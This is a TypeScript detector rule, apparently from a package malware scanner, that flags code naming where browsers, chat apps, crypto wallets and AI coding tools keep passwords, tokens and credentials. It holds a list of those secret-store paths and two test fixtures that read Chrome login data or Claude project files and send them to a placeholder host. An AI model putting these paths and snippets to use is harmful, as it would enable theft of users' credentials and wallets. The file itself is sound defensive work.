import type { Detector } from "../detector.ts";
import type { SourceFile } from "../model.ts";
import { sendingDeeds } from "./_near.ts";
import { codeWith, sight } from "./_sight.ts";

/** Where programs keep what stealers take, by kind; each is a literal of code that reads it. */
const STORES: Readonly<Record<string, readonly string[]>> = {
  "saved browser passwords": ["login data", "logins.json", "password_value", "key4.db", "moz_logins"],
  "browser encryption keys": ["os_crypt", "cryptunprotectdata", "encrypted_key"],
  "browser profiles": [
    "yandexbrowser",
    "brave-browser",
    "opera software",
    "\\google\\chrome",
    "chrome\\\\user data",
    "chrome/user data",
  ],
  "chat tokens": ["dqw4w9wgxcq", "{24}\\.[\\w-]{6}", "mfa\\.[\\w-]{84}", "discordcanary", "discordptb", "lightcord"],
  "wallet data": [
    "nkbihfbeogaeaoehlefnkodbefgpgknn",
    "exodus.wallet",
    "electrum\\\\wallets",
    "atomic\\\\local storage",
    "wallet.dat",
    "metamask",
  ],
  "conversations with models and their keys": [
    ".claude/projects",
    "'.claude', 'projects'",
    "'.claude','projects'",
    '".claude", "projects"',
    ".claude/.credentials",
    ".codex/auth.json",
    "'.codex', 'auth.json'",
    ".gemini/oauth_creds",
    "state.vscdb",
  ],
  "payment cards": ["card_number_encrypted", "credit_cards", "\\web data"],
};
const LITERALS = Object.values(STORES).flat();
/** Words that only appear where tokens or passwords are taken, never where somebody imports their own cookies. */
const ONLY_STEALERS = ["chat tokens", "wallet data", "payment cards"];

export const readsSecretStores: Detector = {
  id: "reads-secret-stores",
  title: "Reads passwords, tokens or wallets that other programs keep",
  severity: "high",
  ecosystems: ["pypi", "npm", "nuget"],
  points: 5.6,
  class: "threat",
  group: "secret-stores",
  why: `One file names the places where several programs keep secrets: saved browser passwords and the key that encrypts them, chat
tokens, wallet files. Collecting from several of them is what stealers of the W4SP kind do.

Tools that import cookies from the user's browser touch one or two of these places and no others; they get few points.`,
  literals: LITERALS,
  *detect(tree) {
    for (const file of codeWith(tree, LITERALS)) {
      const kinds = Object.keys(STORES).filter((kind) => (STORES[kind] ?? []).some((word) => file.has(word)));
      const share = shareOf(kinds, file);
      if (share === 0) continue;
      const offset = file.text.toLowerCase().indexOf(LITERALS.find((word) => file.has(word)) ?? "");
      yield sight(file, Math.max(0, offset), `names where ${kinds.join(", ")} are kept`, { share });
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "paths = [r'\\\\Google\\\\Chrome\\\\User Data', 'discordcanary']\nkey = state['os_crypt']['encrypted_key']\ndb = 'Login Data'\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "npm",
        files: {
          "package.json": '{"name":"demo","main":"index.js"}',
          "index.js":
            "const f = fs.readFileSync(os.homedir() + '/Library/Application Support/Google/Chrome/Default/Login Data');\nfetch('https://example.invalid/u', { method: 'POST', body: f });\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "package.json": '{"name":"demo","main":"index.js"}',
          "index.js":
            "const d = path.join(os.homedir(), '.claude', 'projects');\nfor (const f of fs.readdirSync(d)) fetch('https://example.invalid', { method: 'PUT', body: fs.readFileSync(f) });\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "npm",
        files: { "index.js": "fetch('/x', { method: 'POST', body: fs.readFileSync('Login data') });\n" },
      },
      { ecosystem: "pypi", files: { "demo/a.py": "title = 'Login data of the user'\n" } },
      { ecosystem: "npm", files: { "a.js": "const provider = window.metamask;\n" } },
    ],
  },
};

function shareOf(kinds: readonly string[], file: SourceFile): number {
  const stealing = kinds.filter((kind) => ONLY_STEALERS.includes(kind)).length;
  if (isScript(file) && isLoaded(file) && openedAndSent(file, kinds))
    return kinds.length > 1 || stealing > 0 ? 1 : 0.75;
  if (file.kind !== "python" && file.kind !== "powershell" && kinds.length < 3) return 0;
  if (stealing > 0 && kinds.length >= 3) return 1;
  if (stealing > 0 && kinds.length === 2) return 0.6;
  return kinds.length >= 3 ? 0.5 : kinds.length === 2 ? 0.3 : 0;
}

function isScript({ kind }: SourceFile): boolean {
  return kind === "javascript" || kind === "typescript";
}

/** It runs when the package is installed or loaded: nobody asked it to read anything. */
function isLoaded({ phase }: SourceFile): boolean {
  return phase === "install" || phase === "start" || phase === "import";
}

/** A short script opens files, names one of the stores in a path, and sends something. */
function openedAndSent(file: SourceFile, kinds: readonly string[]): boolean {
  if (kinds.length === 0 || file.text.length > SHORT || !OPENS.test(file.text) || !PATHS.test(file.text)) return false;
  return sendingDeeds(file).length > 0;
}

const SHORT = 30_000;
const OPENS = /\b(?:readFile(?:Sync)?|readdir(?:Sync)?|createReadStream|copyFile(?:Sync)?)\b/;
/** The stores as paths are written, so that a text on screen does not count. */
const PATHS =
  /[\\/]Login Data|Local Storage|leveldb|User Data|logins\.json|key4\.db|wallet\.dat|exodus\.wallet|\.claude(?:\/projects|['"],\s?['"]projects)|\.claude\/\.credentials|\.codex(?:\/|['"],\s?['"])auth\.json|\.gemini\/oauth_creds|state\.vscdb/;
